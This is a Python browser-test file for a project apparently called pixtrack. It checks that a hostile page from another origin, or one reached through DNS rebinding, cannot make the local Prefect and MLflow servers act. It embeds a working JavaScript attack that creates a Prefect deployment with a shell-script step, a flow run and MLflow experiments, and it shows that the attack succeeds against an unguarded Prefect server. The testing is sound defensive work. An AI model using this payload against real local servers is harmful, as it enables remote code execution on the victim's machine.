"""A web page cannot make this machine's servers do anything: tried in a real browser.

What a page would do: make a flow, a deployment of it with a shell command among its steps, and a
flow run that the worker starts. It is tried from another origin, and under another host name that
leads to this machine ("DNS rebinding"); also with the right login, which no page has, to see that
the guard alone holds.
"""

from __future__ import annotations

import base64
import os
import signal
import subprocess
import sys
import threading
from collections.abc import Iterator
from dataclasses import dataclass
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import httpx
import pytest

from pixtrack.configs.paths import Home
from pixtrack.tasks.servers.launcher import free_port
from pixtrack.tasks.servers.login import login
from tests.browser import chromium
from tests.doubles.prefect_servers import copy_database, plain_server

pytestmark = [pytest.mark.browser, pytest.mark.server, pytest.mark.timeout(300)]
selenium = pytest.importorskip(
    "selenium", reason="selenium drives the browser: pip install -e .[dev]"
)

from selenium.webdriver.common.by import By  # noqa: E402
from selenium.webdriver.support.ui import WebDriverWait  # noqa: E402

REBOUND = "rebound.example"
"""A name of the attacker's that leads to this machine."""

ATTACK = """
const [bases, headers, done] = arguments;
const send = async (address, body, kind) => {
  try {
    const mode = kind === 'no-cors' ? 'no-cors' : 'cors';
    const type = kind === 'json' ? 'application/json' : 'text/plain';
    const sent = mode === 'cors' ? {'Content-Type': type, ...headers} : {'Content-Type': type};
    const answer = await fetch(address, {method: 'POST', mode, headers: sent,
                                         body: JSON.stringify(body)});
    return answer.type === 'opaque' ? 'sent blindly' : `${answer.status} ${await answer.text()}`;
  } catch (error) { return `refused: ${error.message}`; }
};
const socket = (address) => new Promise((resolve) => {
  const opened = new WebSocket(address, ['prefect']);
  opened.onopen = () => resolve('open');
  opened.onerror = () => resolve('refused');
});
(async () => {
  const told = {};
  for (const kind of ['json', 'text', 'no-cors']) {
    told[`flow ${kind}`] = await send(`${bases.prefect}/api/flows/`, {name: 'stolen'}, kind);
    let flow = '00000000-0000-0000-0000-000000000000';
    try { flow = JSON.parse(told[`flow ${kind}`].slice(4)).id || flow; } catch {}
    told[`deployment ${kind}`] = await send(`${bases.prefect}/api/deployments/`, {
      name: 'stolen', flow_id: flow, work_pool_name: 'pixtrack', entrypoint: 'x:y',
      pull_steps: [{'prefect.deployments.steps.run_shell_script': {script: 'touch /tmp/stolen'}}],
    }, kind);
    told[`flow run ${kind}`] = await send(
      `${bases.prefect}/api/flow_runs/`, {flow_id: flow, name: 'stolen'}, kind);
    told[`experiment ${kind}`] = await send(
      `${bases.mlflow}/api/2.0/mlflow/experiments/create`, {name: `stolen-${kind}`}, kind);
  }
  told.events = await socket(`${bases.prefect.replace('http', 'ws')}/api/events/in`);
  done(told);
})();
"""


@dataclass
class Pages:
    """`pixtrack ui --all`, and where its two servers are."""

    mlflow: int
    prefect: int
    login: str

    def at(self, host: str) -> dict[str, str]:
        """The servers' addresses under that name."""
        return {name: f"http://{host}:{getattr(self, name)}" for name in ("mlflow", "prefect")}

    @property
    def authorization(self) -> dict[str, str]:
        return {"Authorization": f"Basic {base64.b64encode(self.login.encode()).decode()}"}

    def stolen(self) -> list[str]:
        """What the attack has made, as the servers tell their owner."""
        user, _, password = self.login.partition(":")
        client = httpx.Client(auth=(user, password), trust_env=False)
        api = f"http://127.0.0.1:{self.prefect}/api"
        found = []
        for kind in ("flows", "deployments", "flow_runs"):
            answer = client.post(f"{api}/{kind}/filter", json={})
            assert answer.status_code == 200, answer.text
            found += [one["name"] for one in answer.json()]
        address = f"http://127.0.0.1:{self.mlflow}/api/2.0/mlflow/experiments/search"
        experiments = client.get(address, params={"max_results": 100}).json()["experiments"]
        found += [one["name"] for one in experiments]
        return [name for name in found if "stolen" in name]


@pytest.fixture(scope="module")
def pages(prefect_database: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Pages]:
    home = tmp_path_factory.mktemp("home")
    copy_database(prefect_database, home / "prefect")
    mlflow, prefect = free_port(), free_port()
    command = [sys.executable, "-m", "pixtrack", "ui", "--all"]
    command += ["--port", str(mlflow), "--prefect-port", str(prefect)]
    environment = {**os.environ, "PIXTRACK_HOME": str(home), "PREFECT_HOME": str(home / "prefect")}
    for name in ("PREFECT_API_URL", "MLFLOW_TRACKING_URI"):
        environment.pop(name, None)
    process = subprocess.Popen(command, env=environment, stdout=subprocess.PIPE, text=True)
    assert process.stdout
    told = []
    for line in process.stdout:
        told.append(line)
        if line.startswith("Ctrl-C"):
            break
    try:
        assert f"http://127.0.0.1:{prefect}/runs" in "".join(told), told
        made = login(Home(home))
        assert made not in "".join(told) and str(home / "prefect" / "login") in "".join(told)
        yield Pages(mlflow, prefect, made)
    finally:
        process.send_signal(signal.SIGTERM)
        process.wait(120)


@pytest.fixture(scope="module")
def attacker() -> Iterator[str]:
    """A page of somebody else's, on a port of its own."""

    class Page(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.end_headers()
            self.wfile.write(b"<html><body>a page of somebody else's</body></html>")

        def log_message(self, format: str, *args: object) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Page)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://attacker.localhost:{server.server_port}/"
    server.shutdown()


@pytest.fixture(scope="module")
def browser(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Any]:
    profile = tmp_path_factory.mktemp("profile")
    with chromium(profile, f"--host-resolver-rules=MAP {REBOUND} 127.0.0.1") as driver:
        driver.set_script_timeout(60)
        yield driver


@pytest.mark.parametrize("knows_the_login", [False, True], ids=["no login", "with the login"])
def test_a_page_of_another_origin_makes_nothing(
    browser: Any, pages: Pages, attacker: str, knows_the_login: bool
) -> None:
    headers = pages.authorization if knows_the_login else {}
    browser.get(attacker)
    for name in ("127.0.0.1", "localhost"):
        told = browser.execute_async_script(ATTACK, pages.at(name), headers)
        # Blindly: the browser sends it and keeps the answer to itself; what came of it is below.
        assert set(told.values()) <= {"sent blindly", "refused", "refused: Failed to fetch"}, told
    assert pages.stolen() == []


@pytest.mark.parametrize("knows_the_login", [False, True], ids=["no login", "with the login"])
@pytest.mark.parametrize("server", ["prefect", "mlflow"])
def test_a_page_under_another_name_of_this_machine_makes_nothing(
    browser: Any, pages: Pages, server: str, knows_the_login: bool
) -> None:
    headers = pages.authorization if knows_the_login else {}
    browser.get(f"{pages.at(REBOUND)[server]}/")  # the page is of the same origin as the server
    told = browser.execute_async_script(ATTACK, pages.at(REBOUND), headers)
    answered = {key: value for key, value in told.items() if value[:4] in ("200 ", "201 ")}
    assert not answered and told["events"] == "refused", told
    assert any(value.startswith("403 ") for value in told.values()), told
    assert pages.stolen() == []


def test_without_the_guard_and_the_login_the_same_page_would_have_its_way(
    browser: Any, pages: Pages, attacker: str, prefect_database: Path, tmp_path: Path
) -> None:
    """That the attack is one: Prefect's own server, as `prefect server start` sets it up."""
    copy_database(prefect_database, tmp_path / "prefect")
    with plain_server(tmp_path / "prefect") as api:
        port = urlsplit(api).port
        assert port
        open_to_all = Pages(pages.mlflow, port, "me:nothing")
        browser.get(attacker)
        browser.execute_async_script(ATTACK, open_to_all.at("127.0.0.1"), {})
        assert "stolen" in open_to_all.stolen()


@pytest.mark.parametrize("name", ["127.0.0.1", "localhost"])
def test_the_owner_logs_in_once_and_sees_the_runs(browser: Any, pages: Pages, name: str) -> None:
    browser.get(f"{pages.at(name)['prefect']}/runs")
    field = WebDriverWait(browser, 40).until(
        lambda driver: driver.find_element(By.CSS_SELECTOR, "input[type=password]")
    )
    field.send_keys(f"{pages.login}\n")

    def logged_in(driver: Any) -> bool:
        return "Run a task or flow" in driver.find_element(By.TAG_NAME, "body").text

    try:
        WebDriverWait(browser, 40).until(logged_in)
    except Exception:
        pytest.fail(browser.find_element(By.TAG_NAME, "body").text[:2000])
    browser.get(f"{pages.at(name)['mlflow']}/")
    WebDriverWait(browser, 40).until(
        lambda driver: "MLflow" in driver.title or "Experiments" in driver.page_source
    )
